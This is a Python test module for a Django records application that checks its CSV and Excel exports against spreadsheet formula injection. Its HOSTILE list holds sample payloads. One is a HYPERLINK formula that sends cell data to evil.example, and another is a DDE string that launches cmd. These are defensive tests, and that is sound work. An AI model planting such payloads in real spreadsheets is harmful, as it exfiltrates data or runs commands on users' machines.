"""Every spreadsheet export writes hostile text as text, never as a formula (CSV injection).

A value users type (a request's destination, a checklist comment, an asset's name, a leak
report's summary) that begins with "=", "+", "-", "@", a tab or a carriage return goes
through each export; the workbook holds it as a string cell marked quote-prefixed, the
CSV holds it behind an apostrophe.
"""

import csv
import datetime as dt
import io
import re
from pathlib import Path

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from mamori.approvals.actions import decisions
from mamori.approvals.testing import file_take_out, make_asset
from mamori.incidents.actions import privacy
from mamori.incidents.privacy import Answers
from mamori.incidents.tests.helpers import report
from mamori.inspections.actions import self_inspection
from mamori.inspections.tests.helpers import InspectionTestCase, open_campaign
from mamori.ledger.actions import change_asset
from mamori.lib import clock, safe_cells
from mamori.lib.testing import SendaiTestCase, build_ledger
from mamori.policy.rules import active_context

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def workbook_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


class SafeCellsTests(SendaiTestCase):
    def assert_text_in_workbook(self, content: bytes, value: str) -> None:
        # openpyxl leaves Excel's escape of a carriage return (_x000D_) as it is.
        found = [
            cell
            for cell in workbook_cells(content)
            if isinstance(cell.value, str)
            # Forms and actions strip leading whitespace; what is left still starts a formula.
            and cell.value.replace("_x000D_", "\r") in (value, value.strip())
        ]
        self.assertTrue(found, f"{value!r} not in the workbook")
        for cell in found:
            self.assertEqual(cell.data_type, "s")
            self.assertTrue(cell.quotePrefix, f"{value!r} is not marked as text")
        self.assertNotIn(b"<f>", _sheet_xml(content))

    def test_the_helper_prefixes_only_text_that_could_start_a_formula(self):
        for value in HOSTILE:
            self.assertEqual(safe_cells.csv_value(value), "'" + value)
            self.assertEqual(safe_cells.csv_value_back("'" + value), value)
        self.assertEqual(safe_cells.csv_value("住民記録"), "住民記録")
        self.assertEqual(safe_cells.csv_value(-5), "-5")
        self.assertEqual(safe_cells.csv_value_back("'quoted"), "'quoted")

    def test_the_ledger_csv_and_workbook_keep_hostile_names_as_text(self):
        p = build_ledger(self.p)
        for value in HOSTILE:
            with self.subTest(value=value):
                change_asset(p.media_a, actor=None, context=active_context(), name=value)
                self.sign_in(self.p.admin)
                response = self.client.get(reverse("ledger:asset_export"), {"format": "csv"})
                rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
                self.assertIn("'" + value, [cell for row in rows for cell in row])
                self.assertNotIn(value, [cell for row in rows for cell in row])
                response = self.client.get(reverse("ledger:asset_export"), {"format": "xlsx"})
                self.assert_text_in_workbook(response.content, value)

    def test_the_take_out_register_keeps_hostile_text_as_text(self):
        asset = make_asset(self.p.unit_a, "II")
        for value in HOSTILE:
            decisions.decide(
                file_take_out(self.p.staff_a, [asset], destination=value),
                actor=self.p.kacho_a,
                decision="approve",
            )
        self.sign_in(self.p.kacho_a)
        response = self.client.get(reverse("approvals:register_export", args=["take_out"]))
        for value in HOSTILE:
            with self.subTest(value=value):
                self.assert_text_in_workbook(response.content, value)

    def test_a_leak_reports_workbook_keeps_a_hostile_summary_as_text(self):
        build_ledger(self.p)
        when = timezone.make_aware(dt.datetime(2026, 4, 28, 10, 0))
        with clock.frozen(when):
            incident = report(self.p.staff_a, detected_at=when - dt.timedelta(minutes=30))
            privacy.decide_reporting(
                incident,
                actor=self.p.csirt_lead,
                known_on=when.date(),
                answers=Answers(personal_data=True, sensitive=True, persons=130),
            )
            draft = privacy.save_legal_report(
                incident, actor=self.p.csirt_lead, stage="first", summary=HOSTILE[0]
            )
            self.sign_in(self.p.csirt_lead)
            response = self.client.get(
                reverse("incidents:legal_report_xlsx", args=[incident.pk, draft.pk])
            )
        self.assert_text_in_workbook(response.content, HOSTILE[0])


class SafeAnswersExportTests(InspectionTestCase):
    def test_the_answers_export_keeps_hostile_comments_as_text(self):
        campaign = open_campaign(self.p)
        checklist = campaign.checklists.get(unit=self.p.unit_a)
        questions = list(checklist.questions.order_by("order", "pk"))[: len(HOSTILE)]
        self_inspection.save_answers(
            checklist,
            actor=self.p.kacho_a,
            answers={
                q.pk: ("complied", value) for q, value in zip(questions, HOSTILE, strict=False)
            },
        )
        self.sign_in(self.p.admin)
        response = self.client.get(reverse("inspections:campaign_export", args=[campaign.pk]))
        for value in HOSTILE[: len(questions)]:
            with self.subTest(value=value):
                SafeCellsTests.assert_text_in_workbook(self, response.content, value)


class EveryExportUsesTheHelperTests(SendaiTestCase):
    def test_no_module_writes_a_spreadsheet_without_the_safe_cells_helper(self):
        """A new export must go through mamori.lib.safe_cells (the ledger's CSV writer
        writes rows that csv_text_rows made safe)."""
        root = Path(__file__).resolve().parents[2]
        writers = re.compile(
            r"xlsxwriter\.Workbook\(|openpyxl import Workbook|csv\.writer\(|csv\.DictWriter\("
        )
        allowed = {"lib/safe_cells.py", "ledger/excel.py"}
        offenders = [
            str(path.relative_to(root))
            for path in root.rglob("*.py")
            if "tests" not in path.parts
            and str(path.relative_to(root)) not in allowed
            and writers.search(path.read_text(encoding="utf-8"))
        ]
        self.assertEqual(offenders, [])


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )
